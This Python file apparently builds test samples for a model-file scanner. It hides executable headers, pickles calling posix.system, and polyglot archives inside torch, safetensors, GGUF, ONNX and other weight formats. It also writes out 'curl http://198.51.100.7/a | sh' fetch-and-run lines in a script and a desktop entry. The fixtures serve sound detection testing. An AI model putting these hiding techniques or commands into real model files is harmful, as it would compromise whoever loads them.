"""Programs and archives where a model has numbers: at the start, in the middle and at the end of weights; polyglots."""
import gzip
import struct
import zipfile

from assembly import Call, Name, dump
from graphs import graph, node, onnx_model, op, saved_model, CALM, tflite
from samples import field, gguf, npy, safetensors, tarred, torch_zip, zipped

EVIL = dump(Call(Name("posix", "system"), "echo assay"))
PLAIN = dump({"weight": [1.0, 2.0], "name": "plain"})
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 64, 64, 0, 0, 64, 56, 1, 64, 0, 0)
ELF += struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 120, 120, 4096) + bytes(64)
ELF32 = b"\x7fELF\x01\x01\x01" + bytes(9) + struct.pack("<HHIIIIIHHHHHH", 3, 40, 1, 52, 52, 0, 0, 52, 32, 1, 40, 0, 0) + bytes(200)
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22) + struct.pack("<H", 0x20B) + bytes(300)
MACHO = struct.pack("<IIIIIII", 0xFEEDFACF, 0x0100000C, 0, 6, 1, 24, 0) + struct.pack("<I", 0) + struct.pack("<II", 0x1B, 24) + bytes(16) + bytes(200)
FAT = struct.pack(">II", 0xCAFEBABE, 2) + struct.pack(">IIIII", 0x01000007, 3, 0x1000, 512, 12) + struct.pack(">IIIII", 0x0100000C, 0, 0x2000, 512, 12) + bytes(400)
SCRIPT = b"#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n"
WASM = b"\0asm\x01\0\0\0" + b"\x01\x04\x01\x60\0\0" + bytes(32)
PROGRAMS = {"elf": ELF, "elf32": ELF32, "pe": PE, "macho": MACHO, "fat": FAT}


def noise(size, seed=1):
    """Bytes that look like weights: floats around zero."""
    out = bytearray()
    state = seed
    while len(out) < size:
        state = (state * 6364136223846793005 + 1442695040888963407) & (1 << 64) - 1
        out += struct.pack("<f", (state >> 33) / (1 << 31) - 0.5)
    return bytes(out[:size])


def stored(data):
    """A torch zip whose storage 0 holds the bytes."""
    storage = dump({"w": 1})
    return zipped([("archive/data.pkl", storage), ("archive/byteorder", b"little"), ("archive/data/0", data), ("archive/version", b"3\n")])


def one_tensor(data, kind="U8"):
    size = {"U8": 1, "F32": 4, "BF16": 2}[kind]
    data += bytes(-len(data) % size)
    return safetensors({"w": {"dtype": kind, "shape": [len(data) // size], "data_offsets": [0, len(data)]}}, data)


def gguf_tensor(data, kind=24):
    """A GGUF file with one tensor of bytes (24: I8, 0: F32)."""
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, 1)
    key = b"general.architecture"
    head += struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, 5) + b"llama"
    size = {24: 1, 0: 4}[kind]
    data += bytes(-len(data) % 32)
    head += struct.pack("<Q", 1) + b"w" + struct.pack("<IQIQ", 1, len(data) // size, kind, 0)
    return head + bytes(-len(head) % 32) + data


def onnx_tensor(data):
    return onnx_model([op("Relu")], [[field(1, len(data)), field(2, 3), field(8, "w"), field(9, data)]])


def tf_constant(data):
    tensor = [field(1, 3), field(2, [field(2, [field(1, len(data))])]), field(4, data)]
    return saved_model(graph(CALM, node("c", "Const", field(5, [field(1, "value"), field(2, [field(8, tensor)])]))))


CARRIERS = {
    "torch": (lambda data: stored(data), "pt"), "safetensors": (one_tensor, "safetensors"), "safetensors_f32": (lambda data: one_tensor(data, "F32"), "safetensors"),
    "gguf": (gguf_tensor, "gguf"), "gguf_f32": (lambda data: gguf_tensor(data, 0), "gguf"), "onnx": (onnx_tensor, "onnx"),
    "npy": (lambda data: npy(data=data, dtype="|u1", shape=(len(data),)), "npy"),
    "npz": (lambda data: zipped([("w.npy", npy(data=data, dtype="|u1", shape=(len(data),)))], zipfile.ZIP_DEFLATED), "npz"),
    "msgpack": (lambda data: b"\x81\xa6params\xc6" + struct.pack(">I", len(data)) + data, "msgpack"),
    "savedmodel": (tf_constant, "pb"),
    "keras_weights": (lambda data: zipped([("config.json", b"{}"), ("metadata.json", b"{}"), ("assets/w.bin", data)]), "keras"),
    "raw": (lambda data: data, "bin"),
    "pickle_bytes": (lambda data: dump({"w": data}), "pkl"),
    "gzip": (lambda data: gzip.compress(data, mtime=0), "bin.gz"),
    "tar": (lambda data: tarred([("w.bin", data)]), "tar"),
}


def build(samples):
    def add(name, data, technique, severity="high"):
        samples.attack("programs/" + name, data, technique, severity)

    for carrier, (wrap, extension) in CARRIERS.items():
        for place, make in {"end": lambda program: noise(6000) + program, "middle": lambda program: noise(5000) + program + noise(5000, 2),
                            "aligned": lambda program: noise(4096) + program + bytes(-len(program) % 4096)}.items():
            program = "elf" if carrier != "npy" else "pe"
            severity = "medium"
            add(f"{carrier}_{program}_{place}.{extension}", wrap(make(PROGRAMS[program])), f"{program} at the {place} of weights in {carrier}", severity)
    for program, data in PROGRAMS.items():
        for carrier in ["torch", "safetensors", "gguf", "onnx"]:
            wrap, extension = CARRIERS[carrier]
            add(f"{carrier}_{program}_tail.{extension}", wrap(noise(70_000) + data), f"{program} at the end of 70 kB of weights in {carrier}", "medium")
    large = noise(1 << 16) * 40
    add("torch_elf_large_tail.pt", stored(large + ELF), "program behind 2.6 MB of weights", "medium")
    add("safetensors_elf_large_tail.safetensors", one_tensor(large + ELF), "program behind 2.6 MB of weights", "medium")
    add("torch_two_storages.pt", zipped([("archive/data.pkl", PLAIN), ("archive/data/0", noise(2000)), ("archive/data/1", noise(3000) + ELF), ("archive/version", b"3\n")]), "program at the end of the second storage", "medium")
    add("torch_deflated_tail.pt", zipped([("archive/data.pkl", PLAIN), ("archive/data/0", noise(9000) + ELF), ("archive/version", b"3\n")], zipfile.ZIP_DEFLATED), "program at the end of a deflated storage", "medium")
    add("legacy_tail_elf.pth", b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03." + dump({"little_endian": True}, 2) + dump({}, 2) + dump(["0"], 2) + struct.pack("<q", 100) + noise(400) + ELF, "program behind a legacy torch file", "medium")
    add("safetensors_script_tail.safetensors", one_tensor(noise(4000)) + SCRIPT, "script behind safetensors", "medium")
    add("onnx_tail_elf.onnx", onnx_model([op("Relu")]) + field(200, ELF), "program in a field that ONNX does not know", "medium")
    add("savedmodel_tail_elf/saved_model.pb", saved_model(graph(CALM)) + field(99, ELF), "program in a field that TensorFlow does not know", "medium")
    add("h5_tail.h5", b"\x89HDF\r\n\x1a\n" + bytes(88) + noise(4000) + ELF, "program in what begins as HDF5", "medium")
    add("pickle_tail_elf.pkl", PLAIN + ELF, "program behind a pickle", "medium")
    add("joblib_array_elf.joblib", dump({"a": noise(5000) + ELF}), "program at the end of bytes in a pickle", "medium")
    add("png_elf.png", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 0) + b"IEND\xaeB`\x82" + ELF, "program behind an image", "medium")
    add("gif_script.gif", b"GIF89a" + bytes(7) + b";" + SCRIPT, "script behind an image", "medium")
    add("wasm_as_bin.bin", WASM, "WebAssembly named as weights", "high")
    add("wasm_member.zip", zipped([("model/weights.bin", WASM)]), "WebAssembly named as weights in an archive", "high")
    add("html_then_pickle.html", b"<!DOCTYPE html><html><script>alert(1)</script></html>\n" + EVIL, "HTML with a pickle behind it", "medium")
    add("html_zip.html", b"<!DOCTYPE html><html><body>hello</body></html>\n" + torch_zip(EVIL), "HTML and torch zip in one", "critical")
    add("pdf_zip.pdf", b"%PDF-1.7\n1 0 obj<<>>endobj\n" + torch_zip(EVIL), "PDF and torch zip in one", "critical")
    add("gif_zip.gif", b"GIF89a" + bytes(7) + b";" + torch_zip(EVIL), "GIF and torch zip in one", "critical")
    add("jpeg_zip.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9" + torch_zip(EVIL), "JPEG and torch zip in one", "critical")
    add("wav_zip.wav", b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + struct.pack("<I", 0) + torch_zip(EVIL), "WAV and torch zip in one", "critical")
    add("elf_then_zip.pt", ELF + torch_zip(EVIL), "ELF and torch zip in one", "critical")
    add("pe_then_zip.bin", PE + torch_zip(EVIL), "PE and torch zip in one", "critical")
    add("script_then_zip.pt", SCRIPT + torch_zip(PLAIN), "script and torch zip in one", "high")
    add("gguf_then_zip.gguf", gguf([("general.architecture", "llama")]) + torch_zip(EVIL), "GGUF and torch zip in one", "critical")
    add("npy_then_zip.npy", npy(data=bytes(16), dtype="<f4", shape=(4,)) + torch_zip(EVIL), "npy and torch zip in one", "critical")
    add("onnx_then_zip.onnx", onnx_model([op("Relu")]) + field(100, torch_zip(EVIL)), "ONNX with a torch zip in an unknown field", "critical")
    add("h5_then_zip.h5", b"\x89HDF\r\n\x1a\n" + bytes(200) + torch_zip(EVIL), "HDF5 and torch zip in one", "critical")
    add("tflite_then_zip.tflite", tflite([(0, None)]) + zipped([("labels.pkl", EVIL)]), "metadata zip of a TFLite model with a pickle", "critical")
    add("zip_middle.bin", noise(3000) + torch_zip(EVIL) + noise(3000, 3), "torch zip in the middle of weights", "medium")
    add("pickle_middle_large.bin", noise(1 << 17) + EVIL + noise(1 << 17, 3), "pickle in the middle of 256 kB of weights", "low")
    add("safetensors_middle_pickle.safetensors", one_tensor(noise(8000) + EVIL + noise(8000, 5)), "pickle in the middle of a tensor", "medium")
    add("gguf_tail_zip.gguf", gguf_tensor(noise(64 * 32)) + zipped([("data.pkl", EVIL)]), "zip behind the tensors of GGUF", "critical")
    add("pyc_in_storage.pt", zipped([("archive/data.pkl", PLAIN), ("archive/data/0", struct.pack("<HHIII", 3495, 0x0A0D, 0, 0, 0) + b"\xe3" + bytes(40)), ("archive/version", b"3\n")]), "compiled Python as a storage", "high")
    add("dylib_member.keras", zipped([("config.json", b"{}"), ("metadata.json", b"{}"), ("assets/run.dylib", MACHO)]), "library in a Keras archive", "medium")
    add("so_in_nemo.nemo", tarred([("model_config.yaml", b"a: 1\n"), ("libassay.so", ELF)]), "library in a NeMo archive", "medium")
    add("exe_in_mar.mar", zipped([("MAR-INF/MANIFEST.json", b'{"model":{"handler":"image_classifier","serializedFile":"m.pt","modelName":"m"}}'), ("bin/run.exe", PE), ("m.pt", torch_zip(PLAIN))]), "program in a TorchServe archive", "medium")
    add("llamafile_ape.gguf", b"MZqFpD='\n" + bytes(64) + b"#!/bin/sh\necho\n" + gguf([("general.architecture", "llama")]), "llamafile named .gguf", "high")
    add("desktop/model.desktop", b"[Desktop Entry]\nType=Application\nName=Model\nExec=sh -c 'curl http://198.51.100.7/a|sh'\n", "desktop entry among the files", "low")
    add("lnk_member.zip", zipped([("README.lnk", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60))]), "Windows shortcut in an archive", "low")
